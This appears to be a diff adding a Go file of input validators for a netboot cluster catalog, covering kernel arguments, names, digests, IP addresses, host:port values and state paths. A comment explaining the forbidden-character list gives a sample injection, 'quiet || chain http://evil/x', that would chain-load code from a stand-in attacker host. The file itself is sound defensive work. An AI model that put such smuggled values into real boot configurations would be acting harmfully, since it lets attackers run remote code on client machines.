@@ -1,0 +1,340 @@
+package catalog
+
+import (
+	"fmt"
+	"net"
+	"net/netip"
+	"path"
+	"regexp"
+	"slices"
+	"strconv"
+	"strings"
+	"unicode"
+	"unicode/utf8"
+)
+
+// Limits. The spec fixes all but maxStatePathLen and maxShown.
+const (
+	maxArgsLen     = 2048
+	maxNoteLen     = 256
+	maxStatePaths  = 32
+	minPieceLength = 16 << 10
+	// maxStatePathLen is Linux PATH_MAX; the spec leaves path length open, but
+	// a longer path can never be bind-mounted, so accepting it only defers the
+	// failure to boot time.
+	maxStatePathLen = 4096
+	// maxShown bounds how much of a hostile value is echoed in an error, so an
+	// oversized field cannot blow up logs or HTTP responses.
+	maxShown = 80
+)
+
+var (
+	nameRE     = regexp.MustCompile(`^[a-z0-9][a-z0-9._-]{0,62}$`)
+	hostnameRE = regexp.MustCompile(`^[a-z0-9]([a-z0-9-]{0,61}[a-z0-9])?$`)
+)
+
+// argForbidden lists bytes that could break out of the context kernel args
+// are rendered into: "$" expands iPXE settings and shell variables, ";" "`"
+// "\" quotes and "#" split, quote or comment out script lines. The spec's
+// final list stops there; "|", "&", "<" and ">" are also rejected here
+// because iPXE parses "||" and "&&" as command operators after expanding
+// settings, so "quiet || chain http://evil/x" would run a second command, and
+// in a shell they pipe, background or redirect. No kernel parameter needs them.
+const argForbidden = "$;`\\\"'#|&<>"
+
+// ValidateArgs reports whether s is safe to use as kernel command-line
+// arguments that will be embedded in an iPXE script: at most 2048 bytes of
+// printable ASCII (0x20-0x7e; no newline, tab or other control character)
+// without any of the characters $ ; ` \ " ' # | & < >. The error wraps
+// ErrInvalid and names the offending byte and its offset.
+func ValidateArgs(s string) error {
+	if len(s) > maxArgsLen {
+		return fmt.Errorf("args are %d bytes, limit is %d: %w", len(s), maxArgsLen, ErrInvalid)
+	}
+	for i := 0; i < len(s); i++ {
+		b := s[i]
+		if b < 0x20 || b > 0x7e {
+			return fmt.Errorf("args %q: byte 0x%02x at offset %d is not printable ASCII: %w", show(s), b, i, ErrInvalid)
+		}
+		if strings.IndexByte(argForbidden, b) >= 0 {
+			return fmt.Errorf("args %q: character %q at offset %d is not allowed (it could inject into the iPXE script or a shell): %w",
+				show(s), b, i, ErrInvalid)
+		}
+	}
+	return nil
+}
+
+// show truncates s for inclusion in an error message; callers quote it with %q.
+func show(s string) string {
+	if len(s) <= maxShown {
+		return s
+	}
+	return s[:maxShown] + "..."
+}
+
+// validateName applies the rule shared by group names, image names and node
+// IDs. kind ("group", "image", "node") makes the message self-explanatory.
+func validateName(kind, s string) error {
+	if s == "." || s == ".." {
+		return fmt.Errorf("%s name %q is reserved: %w", kind, s, ErrInvalid)
+	}
+	if !nameRE.MatchString(s) {
+		return fmt.Errorf("%s name %q: want 1-63 characters of a-z, 0-9, '.', '_', '-' starting with a letter or digit: %w",
+			kind, show(s), ErrInvalid)
+	}
+	return nil
+}
+
+// validateHex64 checks a sha256-style digest; empty is allowed only if optional.
+func validateHex64(field, s string, optional bool) error {
+	if s == "" && optional {
+		return nil
+	}
+	if len(s) != 64 || !isHex(s) || strings.ToLower(s) != s {
+		return fmt.Errorf("%s %q: want 64 lower-case hex digits: %w", field, show(s), ErrInvalid)
+	}
+	return nil
+}
+
+// validateNote allows any printable UTF-8 (notes are for humans, so accents
+// and the like are fine) but no control characters such as newlines.
+func validateNote(s string) error {
+	if len(s) > maxNoteLen {
+		return fmt.Errorf("note is %d bytes, limit is %d: %w", len(s), maxNoteLen, ErrInvalid)
+	}
+	if !utf8.ValidString(s) {
+		return fmt.Errorf("note %q is not valid UTF-8: %w", show(s), ErrInvalid)
+	}
+	for i, r := range s {
+		if !unicode.IsPrint(r) {
+			return fmt.Errorf("note %q: character %q at offset %d is not printable: %w", show(s), r, i, ErrInvalid)
+		}
+	}
+	return nil
+}
+
+func validatePieceLength(n int64) error {
+	if n == 0 || (n >= minPieceLength && n&(n-1) == 0) {
+		return nil
+	}
+	return fmt.Errorf("piece_length %d: want 0 or a power of two >= %d: %w", n, minPieceLength, ErrInvalid)
+}
+
+// validateIPv4 requires a dotted quad that can be a unicast host address.
+func validateIPv4(s string) error {
+	a, err := netip.ParseAddr(s)
+	if err != nil || !a.Is4() {
+		return fmt.Errorf("ip %q: want an IPv4 dotted quad such as 10.0.0.5: %w", show(s), ErrInvalid)
+	}
+	var reason string
+	switch {
+	case a.IsUnspecified():
+		reason = "the unspecified address"
+	case a == netip.AddrFrom4([4]byte{255, 255, 255, 255}):
+		reason = "the broadcast address"
+	case a.IsMulticast():
+		reason = "a multicast address"
+	case a.IsLoopback():
+		reason = "a loopback address"
+	default:
+		return nil
+	}
+	return fmt.Errorf("ip %q is %s, not a host address: %w", s, reason, ErrInvalid)
+}
+
+// validateHostPort checks a host:port advertised to other nodes. The spec
+// only says host:port; an empty host (":8300") is rejected because peers
+// could not dial it, and the host must be an IP literal or a DNS name.
+func validateHostPort(field, s string) error {
+	host, port, err := net.SplitHostPort(s)
+	if err != nil || host == "" {
+		return fmt.Errorf("%s %q: want host:port such as 10.0.0.1:8300: %w", field, show(s), ErrInvalid)
+	}
+	if n, err := strconv.Atoi(port); err != nil || n < 1 || n > 65535 || strconv.Itoa(n) != port {
+		return fmt.Errorf("%s %q: port %q must be a number from 1 to 65535: %w", field, show(s), show(port), ErrInvalid)
+	}
+	if _, err := netip.ParseAddr(host); err != nil && !isDNSName(host) {
+		return fmt.Errorf("%s %q: host %q is neither an IP address nor a DNS name: %w", field, show(s), show(host), ErrInvalid)
+	}
+	return nil
+}
+
+// isDNSName reports whether s is a syntactically valid DNS host name.
+func isDNSName(s string) bool {
+	if len(s) > 253 {
+		return false
+	}
+	for _, label := range strings.Split(strings.ToLower(s), ".") {
+		if !hostnameRE.MatchString(label) {
+			return false
+		}
+	}
+	return true
+}
+
+func validateStatePaths(paths []string) error {
+	if len(paths) > maxStatePaths {
+		return fmt.Errorf("state_paths has %d entries, limit is %d: %w", len(paths), maxStatePaths, ErrInvalid)
+	}
+	seen := make(map[string]bool, len(paths))
+	for _, p := range paths {
+		if err := validateStatePath(p); err != nil {
+			return err
+		}
+		// Duplicates are rejected rather than silently merged so that what
+		// the administrator sees stored is exactly what they sent.
+		if seen[p] {
+			return fmt.Errorf("state path %q is listed twice: %w", p, ErrInvalid)
+		}
+		seen[p] = true
+	}
+	return nil
+}
+
+// validateStatePath requires an absolute, clean path other than "/". Beyond
+// the spec, "/" is refused (persisting the whole root defeats a diskless
+// image) and so are whitespace and the ValidateArgs metacharacters, because
+// state paths are handed to the booted client on its kernel command line.
+func validateStatePath(p string) error {
+	switch {
+	case len(p) > maxStatePathLen:
+		return fmt.Errorf("state path is %d bytes, limit is %d: %w", len(p), maxStatePathLen, ErrInvalid)
+	case !strings.HasPrefix(p, "/"):
+		return fmt.Errorf("state path %q must be absolute: %w", show(p), ErrInvalid)
+	case slices.Contains(strings.Split(p, "/"), ".."):
+		return fmt.Errorf("state path %q must not contain \"..\": %w", show(p), ErrInvalid)
+	case path.Clean(p) != p:
+		return fmt.Errorf("state path %q is not clean (want %q): %w", show(p), show(path.Clean(p)), ErrInvalid)
+	case p == "/":
+		return fmt.Errorf("state path \"/\" would make the whole root persistent: %w", ErrInvalid)
+	}
+	if err := ValidateArgs(p); err != nil || strings.Contains(p, " ") {
+		return fmt.Errorf("state path %q may contain only printable ASCII without spaces or $ ; ` \\ \" ' # | & < >: %w",
+			show(p), ErrInvalid)
+	}
+	return nil
+}
+
+// The validateFields methods check one entity in isolation (syntax and
+// limits). References to other entities are checked by content in apply.go,
+// because they depend on the current state.
+
+func (g Group) validateFields() error {
+	if err := validateName("group", g.Name); err != nil {
+		return err
+	}
+	if err := g.validateSettings(); err != nil {
+		return fmt.Errorf("group %q: %w", g.Name, err)
+	}
+	return nil
+}
+
+func (g Group) validateSettings() error {
+	if g.Image != "" {
+		if err := validateName("image", g.Image); err != nil {
+			return err
+		}
+	}
+	if err := validateHex64("version", g.Version, true); err != nil {
+		return err
+	}
+	if g.Version != "" && g.Image == "" {
+		return fmt.Errorf("version %s is pinned but no image is set: %w", g.Version, ErrInvalid)
+	}
+	if !g.BootMode.valid() {
+		return fmt.Errorf("boot_mode %q: want %s, %s or %s: %w",
+			show(string(g.BootMode)), BootDisklessRAM, BootDisklessNBD, BootDisk, ErrInvalid)
+	}
+	if err := ValidateArgs(g.KernelArgs); err != nil {
+		return fmt.Errorf("kernel_args: %w", err)
+	}
+	return validateStatePaths(g.StatePaths)
+}
+
+func (cl Client) validateFields() error {
+	mac, err := NormalizeMAC(cl.MAC)
+	if err != nil {
+		return fmt.Errorf("client: %w", err)
+	}
+	if mac != cl.MAC {
+		return fmt.Errorf("client: mac %q is not in canonical form %q: %w", cl.MAC, mac, ErrInvalid)
+	}
+	if err := cl.validateSettings(); err != nil {
+		return fmt.Errorf("client %s: %w", cl.MAC, err)
+	}
+	return nil
+}
+
+func (cl Client) validateSettings() error {
+	if !hostnameRE.MatchString(cl.Hostname) {
+		return fmt.Errorf("hostname %q: want an RFC 1123 label of 1-63 characters a-z, 0-9 and '-', not starting or ending with '-': %w",
+			show(cl.Hostname), ErrInvalid)
+	}
+	if cl.Group == "" {
+		return fmt.Errorf("group is required: %w", ErrInvalid)
+	}
+	if cl.IP != "" {
+		if err := validateIPv4(cl.IP); err != nil {
+			return err
+		}
+	}
+	if err := ValidateArgs(cl.KernelArgs); err != nil {
+		return fmt.Errorf("kernel_args: %w", err)
+	}
+	return nil
+}
+
+// validateFields does not require ID == SHA256: the spec documents both as
+// sha256 values but does not say they hash the same bytes (the id may cover
+// the unpacked root while sha256 covers the stored file).
+func (v ImageVersion) validateFields() error {
+	if err := validateHex64("version id", v.ID, false); err != nil {
+		return err
+	}
+	if err := v.validateContent(); err != nil {
+		return fmt.Errorf("version %s: %w", v.ID, err)
+	}
+	return nil
+}
+
+func (v ImageVersion) validateContent() error {
+	if v.Size < 0 {
+		return fmt.Errorf("size %d must not be negative: %w", v.Size, ErrInvalid)
+	}
+	if err := validateHex64("sha256", v.SHA256, false); err != nil {
+		return err
+	}
+	if err := validatePieceLength(v.PieceLength); err != nil {
+		return err
+	}
+	if !v.Format.valid() {
+		return fmt.Errorf("format %q: want %s, %s or %s: %w", show(string(v.Format)), FormatSquashfs, FormatExt4, FormatRaw, ErrInvalid)
+	}
+	return v.validateBoot()
+}
+
+func (v ImageVersion) validateBoot() error {
+	if err := validateHex64("kernel_blob", v.KernelBlob, true); err != nil {
+		return err
+	}
+	if err := validateHex64("initrd_blob", v.InitrdBlob, true); err != nil {
+		return err
+	}
+	if err := ValidateArgs(v.Cmdline); err != nil {
+		return fmt.Errorf("cmdline: %w", err)
+	}
+	return validateNote(v.Note)
+}
+
+func (n Node) validateFields() error {
+	if err := validateName("node", n.ID); err != nil {
+		return err
+	}
+	if err := validateHostPort("raft_addr", n.RaftAddr); err != nil {
+		return fmt.Errorf("node %q: %w", n.ID, err)
+	}
+	if err := validateHostPort("http_addr", n.HTTPAddr); err != nil {
+		return fmt.Errorf("node %q: %w", n.ID, err)
+	}
+	return nil
+}
